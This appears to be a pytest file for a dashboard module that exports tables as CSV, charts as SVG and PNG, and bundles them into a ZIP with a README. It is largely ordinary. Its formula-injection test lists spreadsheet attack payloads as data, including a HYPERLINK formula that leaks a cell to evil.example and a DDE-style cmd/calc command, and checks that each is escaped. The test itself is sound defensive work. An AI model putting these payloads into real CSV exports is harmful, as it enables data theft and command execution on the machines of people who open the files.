"""The board pack: tables as CSV that read back as they were, charts as SVG and PNG images,
and the whole pack as one ZIP with a README."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime
from xml.etree import ElementTree

import altair as alt
import pandas as pd
import pytest

from dashboard import boardpack
from dashboard.boardpack import PackChart, PackTable

STAMP = datetime(2026, 11, 24, 9, 30, tzinfo=UTC)
SVG = "{http://www.w3.org/2000/svg}"
FRAME = pd.DataFrame({
    "week": ["2025-10-13", "2025-10-20", "Total"],
    "impressions": [150, 150, 300],
    "offences (all strands)": ["13", "<5", "[c]"],
    "synthetic": ["Synthetic — not real figures"] * 3,
    "awareness events": ["National Hate Crime Awareness Week 2025, \"NHCAW\"", "", ""],
})
needs_images = pytest.mark.skipif(not boardpack.images_available(),
                                  reason="drawing charts needs vl-convert-python")


def chart() -> PackChart:
    bars = alt.Chart(FRAME.iloc[:2]).mark_bar(aria=False).encode(x="week:N", y="impressions:Q")
    return PackChart("Weekly reach", bars, "Bar chart of the impressions gained each week.")


def test_a_table_reads_back_from_its_csv_exactly() -> None:
    data = boardpack.csv_bytes(FRAME)
    assert data.startswith("\ufeff".encode())  # so spreadsheets read it as UTF-8
    back = pd.read_csv(io.BytesIO(data), encoding=boardpack.CSV_ENCODING, dtype=str,
                       keep_default_na=False)
    pd.testing.assert_frame_equal(back, FRAME.astype(str))


def test_an_empty_table_still_has_its_header() -> None:
    data = boardpack.csv_bytes(FRAME.iloc[:0])
    assert data.decode(boardpack.CSV_ENCODING).strip() == ",".join(FRAME.columns)


@pytest.mark.parametrize(("title", "stem"), [
    ("Weekly reach and reports", "weekly-reach-and-reports"),
    ("Partners' contribution", "partners-contribution"),
    ("Weekly reports in York", "weekly-reports-in-york"),
    ("???", "table"),
])
def test_file_names_come_from_titles(title: str, stem: str) -> None:
    assert boardpack.slug(title) == stem
    assert PackTable(title, FRAME).file_name == f"{stem}.csv"


@needs_images
def test_a_chart_becomes_an_svg_with_its_title_and_accessible_name() -> None:
    svg = boardpack.svg_bytes(chart()).decode()
    root = ElementTree.fromstring(svg)
    assert root.tag == f"{SVG}svg" and root.get("role") == "img"
    assert root.get("aria-label") == "Bar chart of the impressions gained each week."
    assert [(child.tag, child.text) for child in root[:2]] == [
        (f"{SVG}title", "Weekly reach"),
        (f"{SVG}desc", "Bar chart of the impressions gained each week.")]


@needs_images
def test_a_chart_becomes_a_png_image() -> None:
    png = boardpack.png_bytes(chart())
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 1000


def test_the_pack_holds_every_table_a_readme_and_when_possible_every_chart() -> None:
    tables = [PackTable("Weekly reach and reports", FRAME), PackTable("Sources", FRAME.iloc[:1])]
    charts = [chart()]
    readme = boardpack.readme(title="Chorus board pack", period="the 4 weeks from ...",
                              tables=tables, charts=charts,
                              notices=["Synthetic — not real figures: made up."],
                              stamp="2026-11-24 09:30 UTC")
    data = boardpack.pack_zip(tables, charts, readme=readme, stamp=STAMP)
    with zipfile.ZipFile(io.BytesIO(data)) as pack:
        names = set(pack.namelist())
        expected = {"README.txt", "weekly-reach-and-reports.csv", "sources.csv"}
        if boardpack.images_available():
            expected |= {"weekly-reach.svg", "weekly-reach.png"}
        assert names == expected
        text = pack.read("README.txt").decode()
        assert "Synthetic — not real figures: made up." in text
        assert "weekly-reach-and-reports.csv: Weekly reach and reports" in text
        assert pack.read("sources.csv") == boardpack.csv_bytes(FRAME.iloc[:1])
        assert all(i.date_time == (2026, 11, 24, 9, 30, 0) for i in pack.infolist())


def test_without_the_image_converter_charts_are_refused_plainly(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(boardpack, "images_available", lambda: False)
    with pytest.raises(boardpack.ImagesUnavailable, match="vl-convert-python"):
        boardpack.svg_bytes(chart())
    data = boardpack.pack_zip([PackTable("Sources", FRAME)], [chart()], readme="r",
                              stamp=STAMP)
    with zipfile.ZipFile(io.BytesIO(data)) as pack:
        assert set(pack.namelist()) == {"README.txt", "sources.csv"}


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-3% to +20%", "'-3% to +20%"),
    ("-12", "-12"),
    ("+5%", "+5%"),
    ("-1,200.5", "-1,200.5"),
    ("<5", "<5"),
    ("York", "York"),
    (-7, -7),
    (-7.5, -7.5),
])
def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text(
    cell: object, written: object
) -> None:
    assert boardpack.spreadsheet_safe(cell) == written


def test_csv_escapes_formulas_in_text_cells_and_headers_but_keeps_negative_numbers() -> None:
    frame = pd.DataFrame({"citation": ["=cmd()", "fine"], "=change": [-3, 4],
                          "ratio": [-0.5, 1.25]})
    back = pd.read_csv(io.BytesIO(boardpack.csv_bytes(frame)), encoding=boardpack.CSV_ENCODING)
    assert list(back.columns) == ["citation", "'=change", "ratio"]
    assert back["citation"].tolist() == ["'=cmd()", "fine"]
    assert back["'=change"].tolist() == [-3, 4] and back["ratio"].tolist() == [-0.5, 1.25]
